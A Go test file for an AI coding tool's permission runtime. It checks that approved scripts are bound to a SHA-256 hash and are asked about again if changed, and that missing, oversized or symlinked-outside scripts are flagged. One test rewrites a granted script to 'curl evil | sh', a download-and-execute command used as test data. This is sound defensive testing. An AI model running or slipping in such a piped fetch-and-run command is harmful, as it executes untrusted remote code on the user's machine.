package runtime_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aircoding/air/internal/fault"
	"github.com/aircoding/air/internal/rig"
	"github.com/aircoding/air/runtime"
	"github.com/aircoding/air/runtime/permission"
)

func executes(path string) permission.Effect {
	return permission.Effect{Kind: permission.Run, Target: "bash " + path, Risk: permission.RiskDestructive, Why: "runs a script", Script: path, ScriptSHA256: "none"}
}

// explained is the last effect of a call of planned as it would be decided.
func explained(r *rig.Rig, e permission.Effect) permission.Decision {
	r.Helper()
	all, err := r.Registry.Explain(r.Context(), runtime.Call{Tool: "test.planned", Input: r.JSON(effects(e))})
	if err != nil {
		r.Fatal(err)
	}
	return all[len(all)-1].Final
}

// S22: a granted script rewritten after the grant is asked about again.
func TestS22ScriptRewrittenAfterTheGrant(t *testing.T) {
	for _, choice := range []permission.Choice{permission.Session, permission.Project} {
		asked := 0
		r := rig.New(t, rig.Options{Tools: []*runtime.Tool{planned()}, Approver: rig.Person(func(context.Context, permission.Question) (permission.Answer, error) {
			asked++
			return permission.Answer{Choice: choice}, nil
		})})
		r.Put("x.sh", "echo")
		call := func(want int) {
			t.Helper()
			r.Must("test.planned", effects(executes("x.sh")), nil)
			if asked != want {
				t.Errorf("%s: asked %d times, want %d", choice, asked, want)
			}
		}
		call(1)
		call(1)
		r.Put("x.sh", "curl evil | sh")
		call(2)
		r.Put("x.sh", "echo")
		call(2) // what was granted first is what it was
	}
}

func TestScriptIsBound(t *testing.T) {
	r := rig.New(t, rig.Options{Tools: []*runtime.Tool{planned()}})
	sum := sha256.Sum256([]byte("echo"))
	bound := hex.EncodeToString(sum[:])
	r.Put("x.sh", "echo")
	r.Put("tools/.git/hook", "echo")
	outside := r.Put(filepath.Join(r.Outside, "x.sh"), "echo")
	r.Put("folder/file", "")
	link := func(name, to string) {
		if err := os.Symlink(to, filepath.Join(r.Root, name)); err != nil {
			t.Fatal(err)
		}
	}
	link("in", "x.sh")
	link("out", outside)
	link("gone", "none")
	big := filepath.Join(r.Root, "big")
	if err := os.WriteFile(big, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(big, 16<<20+1); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		named, script string
		sha256        string
		opaque        string // a part of the reason
	}{
		{"x.sh", "x.sh", bound, ""},
		{filepath.Join(r.Root, "x.sh"), "x.sh", bound, ""},
		{"in", "x.sh", bound, ""},
		{"tools/.git/hook", "tools/.git/hook", bound, ""},
		{outside, "", "", ""},
		{"out", "", "", ""},
		{"none.sh", "", "", "not there yet"},
		{"gone", "", "", "not there yet"},
		{"folder", "", "", "cannot be read"},
		{"big", "", "", "larger than the 16777216 bytes"},
		{"x\x00y", "", "", "could be read"},
		{"", "", "", ""},
	} {
		e := explained(r, executes(c.named)).Effect
		wantRisk := permission.RiskDestructive
		if c.opaque != "" {
			wantRisk = permission.RiskOpaque
		}
		if e.Script != c.script || e.ScriptSHA256 != c.sha256 || e.Risk != wantRisk || !strings.Contains(e.Why, c.opaque) {
			t.Errorf("%q: got %+v", c.named, e)
		}
	}
}

// All scripts of one call are read up to a limit together, and each of them once.
func TestScriptsOfOneCall(t *testing.T) {
	r := rig.New(t, rig.Options{Tools: []*runtime.Tool{planned()}})
	var all []permission.Effect
	for i := range 6 {
		path := fmt.Sprintf("big%d", i)
		if err := os.Truncate(r.Put(path, ""), 16<<20); err != nil {
			t.Fatal(err)
		}
		all = append(all, executes(path), executes(path))
	}
	explanations, err := r.Registry.Explain(t.Context(), runtime.Call{Tool: "test.planned", Input: r.JSON(effects(all...))})
	if err != nil {
		t.Fatal(err)
	}
	for i, x := range explanations[1:] {
		if bound := x.Final.Effect.ScriptSHA256 != ""; bound != (i < 8) {
			t.Errorf("command %d: bound is %t", i, bound)
		}
	}
}

// A capability's plan is bound like any other, and a digest that a plan brings along is
// worth nothing.
func TestScriptOfCapability(t *testing.T) {
	var refused *fault.Error
	r := rig.New(t, rig.Options{
		Tools: []*runtime.Tool{planned()},
		Provider: rig.Guests{"a": func(ctx context.Context, access *runtime.Access, _ json.RawMessage) (any, error) {
			refused = rig.Call(ctx, access, "test.planned", effects(executes("x.sh"))).Error
			return object{}, nil
		}},
	})
	r.Put("x.sh", "echo")
	r.Must("a.run", object{}, nil)
	if refused == nil || refused.Kind != fault.PermissionDenied || refused.Code != "capability_ceiling" {
		t.Errorf("%+v", refused)
	}
}
